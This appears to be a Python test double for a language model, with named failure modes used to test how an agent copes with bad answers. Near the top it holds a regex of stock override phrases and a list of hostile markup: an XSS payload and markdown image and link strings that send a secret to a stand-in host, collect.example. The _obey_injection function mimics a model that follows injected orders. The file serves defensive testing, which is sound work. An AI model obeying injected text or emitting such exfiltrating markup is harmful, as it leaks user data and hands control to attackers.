"""The ways in which a language model lets its caller down, by name."""

import itertools
import json
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from agent.sandbox.llm.sensible import sensible_content
from agent.sandbox.llm.transcript import CITATION_NAME, Statement, user_text

HUGE_CHARACTERS = 1_500_000
INJECTION = re.compile(
    r"ignore (?:all |any )?(?:previous|prior|above|earlier)|system prompt|you must now", re.IGNORECASE
)
MARKUP = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)>",
    "![status](https://collect.example/p.png?d=secret)",
    "[Open the minutes](https://collect.example/)",
)
FEWEST_WORDS = 4


@dataclass(frozen=True)
class Asked:
    """What a request asked for, as far as an answer depends on it."""

    messages: Sequence[Mapping[str, Any]]
    response_format: Mapping[str, Any] | None
    said: Sequence[Statement]
    fixed: str = ""

    def sensible(self) -> str:
        return sensible_content(self.response_format, self.said)


@dataclass(frozen=True)
class Said:
    """What the model says; a refusal stands beside the content."""

    content: str | None
    finish_reason: str = "stop"
    refusal: str | None = None


def _nonsense(_: Asked) -> Said:
    return Said("Certainly! The purple Tuesday hums along, and so do all the teapots of the quarter.")


def _wrong_schema(_: Asked) -> Said:
    return Said(json.dumps({"summary": 42, "items": "none", "unexpected": [{"deep": None}]}))


def _invented_citations(asked: Asked) -> Said:
    return Said(_rewritten(asked.sensible(), _invent))


def _truncated(asked: Asked) -> Said:
    whole = asked.sensible()
    return Said(whole[: len(whole) // 2], "length")


def _empty(_: Asked) -> Said:
    return Said("")


def _refusal(_: Asked) -> Said:
    return Said(None, refusal="I'm sorry, but I can't help with that.")


def _obey_injection(asked: Asked) -> Said:
    """Does what the transcript tells it to: sentences become its orders and markup that must never get out.

    They stay short, and names and codes stay as they are, so that limits of length do not catch them.
    """
    text = "\n".join(user_text(message) for message in asked.messages)
    order = INJECTION.search(text)
    obeyed = text[order.start() :].split('"')[0][:100] if order else "As the transcript demands: all is well."
    pieces = itertools.cycle((obeyed, *MARKUP))
    return Said(_rewritten(asked.sensible(), lambda name, value: _decorated(name, value, pieces)))


def _huge(asked: Asked) -> Said:
    padding = iter([" and so on" * (HUGE_CHARACTERS // 10)])
    return Said(_rewritten(asked.sensible(), lambda name, value: _inflated(name, value, padding)))


def _fixed(asked: Asked) -> Said:
    return Said(asked.fixed)


SAYINGS: dict[str, Callable[[Asked], Said]] = {
    "sensible": lambda asked: Said(asked.sensible()),
    "slow": lambda asked: Said(asked.sensible()),
    "nonsense": _nonsense,
    "wrong_schema": _wrong_schema,
    "invented_citations": _invented_citations,
    "truncated": _truncated,
    "empty": _empty,
    "refusal": _refusal,
    "obey_injection": _obey_injection,
    "huge": _huge,
    "fixed": _fixed,
}


def _rewritten(content: str, change: Callable[[str, Any], Any]) -> str:
    """The JSON with each string and number passed through `change(name, value)`; prose as one value."""
    try:
        value = json.loads(content)
    except ValueError:
        return str(change("", content))
    return json.dumps(_walk("", value, change), ensure_ascii=False)


def _walk(name: str, value: Any, change: Callable[[str, Any], Any]) -> Any:
    if isinstance(value, dict):
        return {key: _walk(key, item, change) for key, item in value.items()}
    if isinstance(value, list):
        return [_walk(name, item, change) for item in value]
    return value if value is None or isinstance(value, bool) else change(name, value)


def _invent(name: str, value: Any) -> Any:
    if not CITATION_NAME.search(name):
        return value
    return 999_999 if isinstance(value, int) else "e999999"


def _decorated(name: str, value: Any, pieces: Iterator[str]) -> Any:
    if not isinstance(value, str) or CITATION_NAME.search(name) or len(value.split()) < FEWEST_WORDS:
        return value
    return next(pieces)


def _inflated(name: str, value: Any, padding: Iterator[str]) -> Any:
    if not isinstance(value, str) or CITATION_NAME.search(name):
        return value
    return value + next(padding, "")
